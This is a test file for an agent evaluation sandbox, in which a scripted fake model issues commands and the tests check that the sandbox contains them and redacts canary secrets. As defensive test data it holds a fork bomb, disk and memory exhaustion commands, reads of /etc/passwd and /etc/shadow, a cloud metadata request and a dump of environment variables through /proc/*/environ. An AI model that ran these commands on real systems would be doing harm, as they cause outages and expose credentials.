import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import pino from "pino";
import { createModelAgent } from "../../src/agents/llm/llm.ts";
import type { ModelProvider } from "../../src/config/model-settings.ts";
import { setModelKey } from "../../src/models/models.ts";
import { testApp } from "../support/app.ts";
import { emptyFolder } from "../support/executable.ts";
import { serveFakeModel, type Turn } from "../support/fake-model.ts";
import { call, finish, modelKey as key, modelRuns } from "../support/model-runs.ts";

globalThis.AI_SDK_LOG_WARNINGS = false;

/** The turns of a model that follows the docs. */
const follow = (path: string, status: string): Turn[] => [
  { reasoning: "I read the docs first.", ...call("fetch_page", { url: "https://notes.test/" }) },
  { text: "There is a guide.", ...call("search_docs", { query: "add note" }) },
  call("fetch_page", { url: "https://notes.test/guide.md" }),
  call("write_file", {
    path: "add.sh",
    text: `curl -sS -o answer.json -w '%{http_code}' -d 'From the sandbox' http://notes.test${path}\n`,
  }),
  call("run_command", { command: `test "$(sh add.sh)" = ${status} && cat answer.json` }),
];

let fake: ReturnType<typeof serveFakeModel>;
beforeAll(() => {
  const met = [
    ...follow("/api/notes", "201"),
    call("http_request", { url: "https://notes.test/api/notes" }),
    finish("succeeded", "The note is in the list."),
  ];
  const missed = [
    ...follow("/v1/notes", "201"),
    call("report_friction", { title: "The address in the guide is not there", severity: "high", quote: "/v1/notes" }),
    finish("goal_not_met", "The guide names an address that answers 404."),
  ];
  const soon = { "retry-after-ms": "1" };
  const fail = (status: number, headers = {}): Turn => ({ fail: { status, headers: { ...soon, ...headers } } });
  const done = finish("goal_not_met", "That was all.");
  const command = (text: string, seconds?: number) => call("run_command", { command: text, seconds });
  const commands = (...all: Turn[]) => ({ turns: [...all, done] });
  const scenarios = {
    met: { turns: met },
    missed: { turns: missed },
    busy: { first: [fail(429), fail(529)], turns: [done] },
    down: { turns: [fail(500)] },
    throttled: { turns: [fail(429, { "retry-after": "9" })] },
    halved: { first: [{ text: "I will", cut: "half" as const }], turns: [done] },
    halves: { turns: [{ text: "I will", cut: "half" as const }] },
    talks: { turns: [{ text: "What do you want me to do?" }] },
    confused: { turns: [call("open_door", {}), call("fetch_page", { address: 1 }), done] },
    endless: { turns: Array.from({ length: 50 }, (_, i) => call("ask_human", { question: `Why ${i}?` })) },
    ...Object.fromEntries(
      (
        [
          ["small", 90_000],
          ["tiny", 2_000],
        ] as const
      ).map(([name, maxChars]) => [
        name,
        {
          maxChars,
          turns: [
            ...Array.from({ length: 12 }, (_, i) =>
              call("fetch_page", { url: "https://notes.test/long.md", from: i * 20_000 }),
            ),
            done,
          ],
        },
      ]),
    ),
    reads: {
      turns: [
        ...Array.from({ length: 40 }, (_, i) =>
          call("fetch_page", { url: "https://notes.test/long.md", from: i * 20_000 }),
        ),
        done,
      ],
    },
    quiet: commands(command("sleep 2")),
    "slow-tool": commands(command("sleep 100", 60)),
    hangs: commands(command("sleep 1000 & sleep 1000", 1)),
    forks: commands(command("f() { f | f & }; f; sleep 1000", 3)),
    fills: commands(command("mkdir -p deep; head -c 3000000000 /dev/zero > deep/big; echo $?", 60)),
    eats: commands(command("python3 -c 'x = bytearray(900 * 1024 ** 2); print(len(x))'", 20)),
    roams: commands(
      call("read_file", { path: "../etc/passwd" }),
      call("read_file", { path: "/etc/shadow" }),
      command("ln -s /etc/passwd link; ln -s / root; ls -A"),
      call("read_file", { path: "link" }),
      call("write_file", { path: "root/tmp/x", text: "x" }),
      call("list_files", { path: "root/etc" }),
      call("fetch_page", { url: "https://elsewhere.test/?q=secret" }),
      call("http_request", { url: "http://169.254.169.254/latest/meta-data/" }),
      command("curl -sS -m 5 http://elsewhere.test/"),
    ),
  };
  fake = serveFakeModel({ key, scenarios });
});
afterAll(() => fake.stop());

/** Canary secrets of every kind that an operator may set. */
const canary = () => crypto.randomUUID().replaceAll("-", "");
const secrets = {
  ANTHROPIC_API_KEY: `sk-ant-api03-${canary()}`,
  OPENAI_API_KEY: `sk-proj-${canary()}`,
  GOOGLE_GENERATIVE_AI_API_KEY: `AIzaSy${canary()}`,
};
const ownSecrets = {
  anthropic: `AKIA${canary().toUpperCase()}`,
  openai: `ghp_${canary()}`,
  google: `xoxb-1-${canary()}+/=`,
};

const runsOf: ReturnType<typeof modelRuns>["runsOf"] = (...given) => modelRuns(fake).runsOf(...given);
const runOf: ReturnType<typeof modelRuns>["runOf"] = (...given) => modelRuns(fake).runOf(...given);

const kindsOf = (events: { type: string; source: string; tool?: string }[]) =>
  events.map(({ type, source, tool }) => [type, source === "agent" ? null : source, tool].filter(Boolean).join(" "));

test("a model reads the docs, writes code, runs it in the sandbox, calls the product and finishes", async () => {
  const dataDir = emptyFolder();
  const { run, report, events, notes } = await runOf("met", { dataDir });
  expect(run).toMatchObject({ status: "completed", agent: { id: "llm", version: "test", model: "met" }, attempt: 1 });
  // The agent's own claim is no proof, and there is no judge here.
  expect(report).toMatchObject({
    outcome: "not_judged",
    metrics: { toolCalls: 7, costUsd: 0.01848, costDetail: "7 model calls to met, 840 tokens.", interruptions: 0 },
  });
  expect(notes).toEqual(["From the sandbox"]);
  const step = (tool: string, ...between: string[]) => [
    "usage gateway",
    `tool_call ${tool}`,
    ...between,
    `tool_result ${tool}`,
  ];
  expect(kindsOf(events)).toEqual([
    "milestone",
    "milestone",
    "usage gateway",
    "thought",
    ...step("fetch_page", "http", "milestone").slice(1),
    "usage gateway",
    "message",
    ...step("search_docs", "http").slice(1),
    ...step("fetch_page", "http", "milestone"),
    ...step("write_file"),
    ...step("run_command", "http egress"),
    ...step("http_request", "http"),
    ...step("finish"),
    "milestone",
    "end",
  ]);
  const requests = events.filter(({ type }: { type: string }) => type === "http");
  expect(requests.map(({ url, provenance }: Record<string, string>) => [url, provenance])).toEqual([
    ["https://notes.test/", "given"],
    ["https://notes.test/llms.txt", "guessed"],
    ["https://notes.test/guide.md", "link"],
    ["http://notes.test/api/notes", "link"],
    ["https://notes.test/api/notes", "link"],
  ]);
  expect(readdirSync(join(dataDir, "workspaces"))).toEqual([]);
});

test("misleading docs lead to a missed goal and a capped score, and the events show where", async () => {
  const { run, report, events, notes } = await runOf("missed", { path: "/v1/notes" });
  expect(run).toMatchObject({ status: "completed" });
  expect(notes).toEqual([]);
  expect(report.outcome).toBe("goal_not_met");
  expect(report.score).toBeLessThanOrEqual(55);
  const command = events.find(
    (event: { type: string; tool?: string }) => event.type === "tool_result" && event.tool === "run_command",
  );
  expect(command).toMatchObject({ ok: false, output: { exitCode: 1 } });
  expect(events.find((event: { source: string }) => event.source === "egress")).toMatchObject({
    status: 404,
    url: "http://notes.test/v1/notes",
  });
  expect(report.frictionPoints.map(({ title }: { title: string }) => title).join()).toContain("/v1/notes");
});

const results = (
  events: { type: string; tool: string; ok: boolean; output: Record<string, unknown> }[],
  tool?: string,
) =>
  events.filter((event) => event.type === "tool_result" && event.tool !== "finish" && (!tool || event.tool === tool));

describe("a model that fails", () => {
  test.each([
    ["after it was busy", "busy"],
    ["after its response was cut off", "halved"],
  ])("is retried: %s", async (_, name) => {
    const { run } = await runOf(name);
    expect(run).toMatchObject({ status: "completed", attempt: 1 });
  });

  test.concurrent.each([
    ["garbage", "garbage", /^infrastructure: openai-compatible sent an incomplete response: .*5 failures in a row/],
    ["permanent 500", "down", /^infrastructure: openai-compatible returned 500: an error \(5 failures in a row\)/],
    ["permanent 429", "throttled", /^infrastructure: openai-compatible returned 429: an error \(5 failures in a row\)/],
    [
      "permanent half responses",
      "halves",
      /^infrastructure: openai-compatible sent an incomplete response: .*5 failures/,
    ],
    [
      "a rejected key",
      "unauthorized",
      /^credentials: openai-compatible rejected the API key \(401\): invalid key; set a valid key in OPENAI/,
    ],
    ["no response", "silent", /^timeout: the model .* 4 seconds$/],
  ])(
    "ends the run with its cause: %s",
    async (_, name, cause) => {
      const { run, attempts } = await runOf(name, {
        env: { EVALD_RUN_TIMEOUT_SECONDS: name === "silent" ? "4" : "60" },
      });
      expect(run).toMatchObject({ status: "failed", report: null, failureReason: expect.stringMatching(cause) });
      expect(attempts).toHaveLength(cause.source.startsWith("^infra") ? 5 : 1);
    },
    300_000,
  );

  test("misses the goal if it calls no tools, unknown tools, or tools with invalid input", async () => {
    const silent = await runOf("talks");
    expect(silent.report.outcome).toBe("goal_not_met");
    expect(silent.events.at(-1).reason).toContain("finish");
    const { report, events } = await runOf("confused");
    expect(report.outcome).toBe("goal_not_met");
    expect(results(events).map(({ tool, ok, output }) => [tool, ok, output.message])).toEqual([
      ["open_door", false, expect.stringContaining("fetch_page")],
      ["fetch_page", false, expect.stringMatching(/^url: /)],
    ]);
  });
});

describe("a limit", () => {
  test.each([
    ["tool calls", { EVALD_MAX_TOOL_CALLS: "10" }, ["tool_calls", 10, "calls", "runner"], 10],
    ["model calls", { EVALD_MAX_MODEL_CALLS: "5" }, ["model_calls", 5, "calls", "gateway"], 5],
    ["tokens", { EVALD_MAX_TOKENS: "1200" }, ["model_tokens", 1200, "tokens", "gateway"], 10],
    ["money", { EVALD_MAX_COST_USD: "0.03" }, ["model_cost", 0.03, "USD", "gateway"], 12],
  ])(
    "on %s ends the work after a warning, and the work so far counts",
    async (_, env, limit, calls) => {
      const before = fake.requests.length;
      const { run, report, events } = await runOf("endless", { env });
      expect(run.status).toBe("completed");
      expect(report).toMatchObject({ outcome: "goal_not_met", metrics: { interruptions: calls } });
      const hits = events.filter(({ type, near }: { type: string; near?: true }) => type === "limit" && !near);
      expect(hits.map((hit: Record<string, unknown>) => [hit.limit, hit.value, hit.unit, hit.source])).toEqual([limit]);
      expect(events.at(-1)).toMatchObject({ type: "end", reason: expect.stringMatching(/limit/) });
      const asked = fake.requests.slice(before).map(({ body }) => JSON.stringify(body));
      expect(asked.filter((body) => body.includes("almost used up")).length).toBeGreaterThan(0);
      expect(asked[0]).not.toContain("almost used up");
    },
    300_000,
  );

  test("on time ends it in the same way", async () => {
    const slow = await runOf("slow-tool", { env: { EVALD_RUN_TIMEOUT_SECONDS: "3" } });
    expect(slow.run.status).toBe("completed");
    expect(slow.report.outcome).toBe("goal_not_met");
    expect(slow.events.at(-1).reason).toBe("The run reached its limit: 3 seconds (wall_clock).");
  });
});

describe("a command", () => {
  test("is stopped if it hangs, forks endlessly, or fills the disk or the memory, and the model continues", async () => {
    const messages: unknown[] = [];
    for (const name of ["hangs", "forks", "fills", "eats"]) {
      const { run, events } = await runOf(name, { env: { EVALD_AGENT_MEMORY_MB: "512", EVALD_WORKSPACE_MB: "64" } });
      expect(run.status).toBe("completed");
      const [result] = results(events, "run_command");
      expect(result?.ok).toBe(false);
      messages.push(result?.output.message);
    }
    expect(messages).toEqual([
      "stopped after 1 seconds",
      expect.stringMatching(/processes|stopped after|exit code/),
      expect.stringMatching(/workspace_bytes|File size|exit code/),
      expect.stringMatching(/memory|exit code/),
    ]);
  }, 300_000);

  test("that prints nothing for a long time doesn't make the agent idle", async () => {
    const { run, report } = await runOf("quiet", { env: { EVALD_IDLE_TIMEOUT_SECONDS: "1" } });
    expect([run.failureReason, report?.metrics.errors]).toEqual([null, 0]);
  });

  test("can't leave the workspace with a file, or the hosts of the run with a request", async () => {
    const { run, events } = await runOf("roams");
    expect(run.status).toBe("completed");
    expect(results(events).map(({ tool, ok }) => [tool, ok])).toEqual([
      ["read_file", false],
      ["read_file", false],
      ["run_command", true],
      ["read_file", false],
      ["write_file", false],
      ["list_files", false],
      ["fetch_page", false],
      ["http_request", false],
      ["run_command", true],
    ]);
    expect(JSON.stringify(events)).not.toMatch(/root:x|agent:x/);
    const out = events.filter(({ type }: { type: string }) => type === "http");
    expect(out.map(({ error }: { error: { kind: string } }) => error?.kind)).toEqual(["refused", "refused", "refused"]);
  });
});

test("no secret is stored, logged or returned, however it is written and whatever its source", async () => {
  const dataDir = emptyFolder();
  const log: string[] = [];
  const EVALD_SECRET_KEY = Buffer.from(canary()).toString("base64");
  const all = [...Object.values(secrets), ...Object.values(ownSecrets), key];
  const spellings = all.flatMap((secret) => [
    secret,
    Buffer.from(secret).toString("base64"),
    Buffer.from(`user:${secret}`).toString("base64"),
    Buffer.from(secret).toString("hex"),
    encodeURIComponent(secret),
  ]);
  const said = [
    "Authorization: Bearer abcdefgh12345678",
    "Proxy-Authorization: Basic dXNlcjpwYXNzd29yZA==",
    ...spellings,
  ];
  fake.add("leaks", {
    turns: [
      { reasoning: said.join(" "), text: said.join("\n"), ...call("write_file", { path: "x", text: said.join("\n") }) },
      call("run_command", { command: "env; cat x /proc/*/environ 2>/dev/null; ls /run/evald" }),
      call("http_request", {
        url: `https://notes.test/?key=${encodeURIComponent(key)}`,
        headers: { Authorization: "Bearer abcdefgh12345678", "X-Api-Key": key, [key]: "name" },
      }),
      call("report_friction", { title: said.join(" "), severity: "low", quote: key, url: `https://notes.test/${key}` }),
      finish("goal_not_met", said.join(" ")),
    ],
  });
  const { run, report, events, tokens } = await runOf("leaks", {
    dataDir,
    env: { ...secrets, EVALD_SECRET_KEY },
    log: pino({ level: "trace" }, { write: (line: string) => void log.push(line) }),
    before: ({ service, a }) => {
      for (const [provider, secret] of Object.entries(ownSecrets))
        setModelKey(service.ctx, a.org, provider as ModelProvider, secret);
    },
  });
  expect(run.status).toBe("completed");
  const stored = readdirSync(dataDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => readFileSync(join(parentPath, name), "latin1"));
  const everything = [JSON.stringify([run, report, events]), ...stored, ...log].join("\n");
  expect(everything).toContain("[redacted]");
  expect(tokens.length).toBeGreaterThan(0);
  const found = [...spellings, ...tokens, EVALD_SECRET_KEY, "abcdefgh12345678", "dXNlcjpwYXNzd29yZA"].filter((secret) =>
    everything.includes(secret),
  );
  expect(found).toEqual([]);
});

test("many concurrent sessions are all kept, and each has its own events, cost and folder", async () => {
  const many = 24;
  const { runs, notes } = await runsOf("met", {
    many,
    env: { EVALD_CONCURRENCY: String(many), EVALD_RUNS_PER_HOST: String(many) },
  });
  expect(runs).toHaveLength(many);
  expect(runs.filter(({ status }) => status === "completed")).toHaveLength(many);
  expect(new Set(runs.map(({ report }) => report.metrics.costUsd))).toEqual(new Set([0.01848]));
  expect(new Set(runs.map(({ report }) => report.metrics.toolCalls))).toEqual(new Set([7]));
  expect(notes).toHaveLength(many);
}, 300_000);

describe("the agent of a prompt", () => {
  const agents = { llm: createModelAgent({ version: "test" }) };
  const create = async (env: Record<string, string>, body: object) => {
    const app = testApp({ agents, env });
    const prompt = await app.send("POST", "/api/v1/prompts", { body: { text: "See https://docs.test/", ...body } });
    if (prompt.status !== 201) return [prompt.status, prompt.body.detail];
    const { body: asked } = await app.send("POST", `/api/v1/prompts/${prompt.body.id}/run`, { body: { urlMap: {} } });
    const { agent } = (await app.send("GET", `/api/v1/runs/${asked.runId}`)).body;
    return [agent.id, agent.model];
  };
  const openai = { OPENAI_API_KEY: key };

  test.each<[string, Record<string, string>, object, unknown[]]>([
    ["nothing is set", {}, {}, ["explorer", null]],
    ["a model and its key are set", { ...openai, EVALD_AGENT_MODEL: "openai/gpt-5" }, {}, ["llm", "openai/gpt-5"]],
    ["a model is set without its key", { EVALD_AGENT_MODEL: "openai/gpt-5" }, {}, ["explorer", null]],
    ["the prompt names a model", openai, { model: "openai/o3" }, ["llm", "openai/o3"]],
    [
      "the prompt names the explorer",
      { ...openai, EVALD_AGENT_MODEL: "openai/gpt-5" },
      { agent: "explorer" },
      ["explorer", null],
    ],
    ["the model has no key", {}, { model: "openai/o3" }, [400, expect.stringMatching(/openai\/o3.* OPENAI_API_KEY/)]],
    ["the model is invalid", openai, { model: "gpt-5" }, [400, expect.stringMatching(/^Invalid model "gpt-5"/)]],
    [
      "the explorer is given a model",
      openai,
      { agent: "explorer", model: "openai/o3" },
      [400, expect.stringMatching(/^Invalid model: .* explorer .* llm/)],
    ],
    [
      "no model is named",
      openai,
      { agent: "llm" },
      [400, expect.stringMatching(/^Invalid agent: llm .* EVALD_AGENT_MODEL/)],
    ],
    [
      "the configured model has no key",
      { EVALD_AGENT_MODEL: "openai/gpt-5" },
      { agent: "llm" },
      [400, expect.stringMatching(/openai\/gpt-5.* OPENAI_API_KEY/)],
    ],
  ])("is chosen or rejected if %s", async (_, env, body, expected) => {
    expect(await create(env, body)).toEqual(expected);
  });
});

test("old tool results make room for new ones", async () => {
  const before = fake.requests.length;
  const { run, report } = await runOf("reads");
  expect(run.status).toBe("completed");
  expect(report.metrics).toMatchObject({ errors: 0, toolCalls: 41 });
  const sizes = fake.requests.slice(before).map(({ body }) => JSON.stringify(body).length);
  expect(Math.max(...sizes)).toBeGreaterThan(300_000);
  expect(Math.max(...sizes)).toBeLessThan(450_000);
  expect(JSON.stringify(fake.requests.at(-1)?.body)).toContain("Omitted to save space");
});

test("a model with a small context gets less to read and the run continues, and the run reports a task that is too long", async () => {
  const before = fake.requests.length;
  const { run, report } = await runOf("small");
  expect([run.status, run.failureReason]).toEqual(["completed", null]);
  expect(report.metrics).toMatchObject({ errors: 0, toolCalls: 13 });
  const refused = fake.requests.slice(before).filter(({ body }) => JSON.stringify(body).length > 90_000);
  // The reduced limit is remembered.
  expect(refused).toHaveLength(1);
  const tiny = await runOf("tiny");
  expect(tiny.run).toMatchObject({
    status: "failed",
    failureReason: expect.stringContaining("maximum context length"),
  });
});
